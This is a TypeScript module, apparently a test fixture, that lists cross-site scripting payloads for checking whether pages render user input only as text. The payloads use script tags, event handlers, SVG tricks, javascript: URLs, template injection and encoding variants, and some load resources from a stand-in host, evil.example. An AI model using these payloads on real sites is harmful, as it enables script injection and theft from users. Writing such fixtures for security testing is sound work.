/** The host that no page may ask for anything. */
export const evilHost = 'evil.example'

/** Texts that would run `xss(n)`, or fetch from `evilHost`, in a page that takes them for more than text. */
const forms: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title></textarea><script>${call}</script>`,
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  (call) => `<math><mtext><style><!--</style><img src=x onerror=${call}>-->`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `javascript:${call}//`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => '${' + call + '}{{' + call + '}}#{' + call + '}<%=' + call + '%>',
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\u202e<img src=x onerror=${call}>\u2066`,
  (call) => `<base href="https://${evilHost}/${call}">`,
  (call) => `<style>@import 'https://${evilHost}/${call}';</style>`,
  (call) => `</style><link rel=stylesheet href=https://${evilHost}/${call}>`,
  (call) => `<div style="background:url(https://${evilHost}/${call})">`,
]

export const hostileTexts: readonly string[] = forms.map((form, at) => form(`xss(${at + 1})`))

/** For fields of a name's length. */
export const shortHostile = '<svg onload=xss(0)>'

/** All of them, in texts of at most so many characters. */
export function packed(longest: number): string[] {
  const packs: string[] = []
  for (const text of hostileTexts) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + text.length < longest) packs[packs.length - 1] = `${last} ${text}`
    else packs.push(text)
  }
  return packs
}
